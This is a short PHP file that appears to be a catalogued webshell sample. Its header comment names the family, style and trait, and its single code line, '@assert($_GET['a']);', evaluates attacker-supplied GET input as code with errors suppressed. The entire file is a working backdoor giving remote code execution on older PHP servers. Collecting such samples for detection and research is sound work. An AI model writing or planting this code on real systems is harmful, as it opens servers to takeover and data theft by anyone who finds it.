<?php
/* Family: webshell/eval-request
 * Style: assert evaluator
 * Trait: assert over GET data, works on older PHP versions */
@assert($_GET['a']);
